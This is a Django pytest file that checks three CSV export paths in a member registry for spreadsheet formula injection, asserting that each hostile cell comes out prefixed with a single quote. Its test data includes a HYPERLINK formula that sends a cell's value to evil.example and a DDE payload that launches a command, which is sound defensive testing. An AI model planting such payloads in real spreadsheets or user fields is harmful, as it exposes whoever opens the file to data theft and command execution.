"""Spreadsheet formula injection, checked at every export entry point.

A member (or anyone who can write a taxonomy label) types a value that a
spreadsheet would run as a formula: `=HYPERLINK(...)`, `@SUM(A1)`, a DDE
payload. Whichever way the CSV is made (the staff search's export, the admin's
"export selected" action, `manage.py export_specialists`), each such cell comes
out with the documented single quote in front (docs/export-columns.md), the
rest of the value intact, and every other cell exactly as it would be
without the attack.

The tests read the CSV bytes that each entry point produces, as a spreadsheet
does, and never call the exporter's internals.
"""

import codecs
import csv
import io
from datetime import UTC

import pytest
from django.core.management import call_command
from django.urls import reverse

from registry.models import EngagementType, ExpertiseCluster, InternationalProject, Member

pytestmark = pytest.mark.django_db
# Values a spreadsheet runs, or runs once it has skipped leading white space.
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "tab_alone": "\tcmd",
    "carriage_return": "\r=1+1",
    "carriage_return_alone": "\rcmd",
    "spaces_then_equals": "  =1+1",
    "newline_then_plus": "\n+1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "dde": "=cmd|' /C calc'!A0",
    "fullwidth_equals": "\uff1d1+1",
    "fullwidth_at": "\uff20SUM(A1)",
}
# The same behind a leading quote: a spreadsheet (or a person pasting the
# cell) that drops the quote is left with a formula. Issue 8 asks for these
# to be neutralised too.
FORMULAS_BEHIND_QUOTES = {
    "double_quote_then_dde": "\"=cmd|' /C calc'!A0",
    "single_quote_then_at": "'@SUM(A1)",
    "spaces_and_quote_then_equals": '  "=1+1',
    "quote_then_spaces_then_minus": "'  -1+1",
}

# Every free-text value of a member that the export shows, and its column.
COLUMN_OF_FIELD = {
    "full_name": "Full name",
    "email": "E-mail address",
    "phone": "Phone",
    "city": "City",
    "home_region": "Home province or region",
    "qualification_subject": "Subject of the qualification",
    "qualification_institution": "Institution of the qualification",
    "job_title": "Job title",
    "organisation": "Organisation",
    "keywords": "Keywords",
    "summary": "Summary",
    "orcid": "ORCID iD",
    "scholar_url": "Google Scholar profile",
    "linkedin_url": "LinkedIn profile",
    "website_url": "Website",
    "home_collaborations": "Collaborations with institutions in the country",
}
FREE_TEXT_FIELDS = tuple(COLUMN_OF_FIELD)
# Labels staff write themselves and the export shows as they are.
TAXONOMY_COLUMNS = {
    "Engagement types": '=HYPERLINK("http://evil.example","Lectures")',
    "International projects": "@SUM(A1)",
    "Expertise clusters": "+1+1 cluster",
}
# Ordinary values holding formula characters inside: exported exactly.
ORDINARY = {
    "full_name": "Jean-Luc Ørsted",
    "email": "jean-luc+dorin@example.org",
    "phone": "0044 20 7946 0000",
    "city": "Saint-Étienne",
    "home_region": "Gilgit-Baltistan",
    "qualification_subject": "C++ = systems",
    "qualification_institution": "ETH Zürich",
    "job_title": "R&D lead @ CERN",
    "organisation": "Max-Planck-Institut",
    "keywords": "a+b, x=y",
    "summary": "Works on 1+1=2 proofs.\nSecond line.",
    "orcid": "0000-0002-1825-0097",
    "scholar_url": "https://scholar.google.com/citations?user=abc-123",
    "linkedin_url": "https://www.linkedin.com/in/jean-luc",
    "website_url": "https://example.org/~jl?a=1&b=2",
    "home_collaborations": "'Quoted' joint work with NUST.",
}
# Values that are not free text: the same for every member made below.
FIXED_VALUES = {
    "country": "GB",
    "qualification_country": "FR",
    "qualification_year": 2009,
    "years_experience": 12,
    "hours_per_month": 6,
    "willing_to_visit": True,
}
PER_MEMBER_COLUMNS = {"Member ID", "Registered at", "Updated at", "E-mail confirmed at"}

EXPORT = reverse("registry:staff_export")
CHANGELIST = reverse("admin:registry_member_changelist")


def field_limit(name: str) -> int:
    return Member._meta.get_field(name).max_length or 10_000


def member_with(make_member, value_of) -> tuple[Member, dict[str, str]]:
    """A member whose free-text fields hold value_of(field), stored byte for byte.

    The services trim what people type; an import or an older version may
    not have, and the export must not depend on it. So the values are
    written with update(), leading white space and all. Returns the member
    and the values stored.
    """
    member = make_member(**FIXED_VALUES)
    values = {name: value_of(name)[: field_limit(name)] for name in FREE_TEXT_FIELDS}
    Member.objects.filter(pk=member.pk).update(**values)
    return member, values


def hostile_members(make_member, payloads) -> dict[int, dict[str, str]]:
    """One member per payload, the payload in every free-text field; id -> values."""
    members = {}
    for n, payload in enumerate(payloads):
        # The address is unique per member whatever the payload.
        member, values = member_with(
            make_member, lambda name, p=payload, n=n: f"{p}{n}" if name == "email" else p
        )
        members[member.pk] = values
    return members


# The three entry points, each returning the CSV as parsed by a spreadsheet;
# the client is logged in as an Analyst.


def parse(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(codecs.BOM_UTF8)
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def staff_search_export(client, members) -> list[dict[str, str]]:
    response = client.get(EXPORT, {"status": "all"})
    assert response.status_code == 200
    return parse(b"".join(response.streaming_content))


def admin_export_action(client, members) -> list[dict[str, str]]:
    response = client.post(
        CHANGELIST,
        {"action": "export_selected_members", "_selected_action": [m.pk for m in members]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return parse(b"".join(response.streaming_content))


def export_command(client, members) -> list[dict[str, str]]:
    out = io.StringIO()
    call_command("export_specialists", "--status", "all", stdout=out, stderr=io.StringIO())
    return parse(out.getvalue().encode("utf-8"))


ENTRY_POINTS = [staff_search_export, admin_export_action, export_command]
ENTRY_POINT_IDS = ["staff_search_export", "admin_export_action", "export_command"]


def exported(entry_point, client) -> dict[int, dict[str, str]]:
    rows = entry_point(client, list(Member.objects.all()))
    return {int(row["Member ID"]): row for row in rows}


def assert_neutralised(row: dict[str, str], values: dict[str, str]) -> None:
    for name, column in COLUMN_OF_FIELD.items():
        # The documented neutralisation: one quote in front, nothing else changed.
        assert row[column] == "'" + values[name], column


def assert_same_fixed_cells(rows: dict[int, dict[str, str]], reference: Member) -> None:
    """Cells that are not free text read the same for every member, attacked or not."""
    expected = rows[reference.pk]
    assert expected["Country of residence (ISO code)"] == "GB"
    assert expected["Years of experience"] == "12"
    assert expected["Hours per month"] == "6"
    free = set(COLUMN_OF_FIELD.values()) | PER_MEMBER_COLUMNS
    for member_id, row in rows.items():
        member = Member.objects.get(pk=member_id)
        assert row["Member ID"] == str(member.pk)
        registered = member.created_at.astimezone(UTC).replace(microsecond=0).isoformat()
        assert row["Registered at"] == registered
        assert {k: v for k, v in row.items() if k not in free} == {
            k: v for k, v in expected.items() if k not in free
        }


@pytest.mark.parametrize("entry_point", ENTRY_POINTS, ids=ENTRY_POINT_IDS)
def test_formulas_in_every_free_text_field_come_out_behind_a_quote_and_nothing_else_changes(
    role_client, make_member, entry_point
):
    reference, _values = member_with(make_member, ORDINARY.__getitem__)
    attacked = hostile_members(make_member, FORMULAS.values())

    rows = exported(entry_point, role_client("analyst"))

    assert set(rows) == {reference.pk, *attacked}
    for member_id, values in attacked.items():
        assert_neutralised(rows[member_id], values)
    assert_same_fixed_cells(rows, reference)


@pytest.mark.parametrize("entry_point", ENTRY_POINTS, ids=ENTRY_POINT_IDS)
def test_ordinary_text_with_formula_characters_inside_is_exported_unchanged(
    role_client, make_member, entry_point
):
    reference, _values = member_with(make_member, ORDINARY.__getitem__)

    row = exported(entry_point, role_client("analyst"))[reference.pk]

    for name, column in COLUMN_OF_FIELD.items():
        assert row[column] == ORDINARY[name], column


@pytest.mark.parametrize(
    "payload", FORMULAS_BEHIND_QUOTES.values(), ids=FORMULAS_BEHIND_QUOTES.keys()
)
@pytest.mark.parametrize("entry_point", ENTRY_POINTS, ids=ENTRY_POINT_IDS)
def test_formulas_behind_leading_quotes_come_out_behind_a_quote(
    role_client, make_member, entry_point, payload
):
    attacked = hostile_members(make_member, [payload])

    rows = exported(entry_point, role_client("analyst"))

    for member_id, values in attacked.items():
        assert_neutralised(rows[member_id], values)


@pytest.mark.parametrize("entry_point", ENTRY_POINTS, ids=ENTRY_POINT_IDS)
def test_formulas_in_taxonomy_labels_staff_write_come_out_behind_a_quote(
    role_client, make_member, entry_point
):
    engagement = EngagementType.objects.create(
        slug="hostile", name=TAXONOMY_COLUMNS["Engagement types"]
    )
    project = InternationalProject.objects.create(
        slug="hostile", name=TAXONOMY_COLUMNS["International projects"]
    )
    cluster = ExpertiseCluster.objects.create(
        slug="hostile", name=TAXONOMY_COLUMNS["Expertise clusters"], is_active=False
    )
    member = make_member(engagement_types=[engagement], international_projects=[project])
    # Membership is derived; set here directly so the cell holds this label alone.
    member.clusters.set([cluster])

    row = exported(entry_point, role_client("analyst"))[member.pk]

    for column, label in TAXONOMY_COLUMNS.items():
        assert row[column] == "'" + label, column
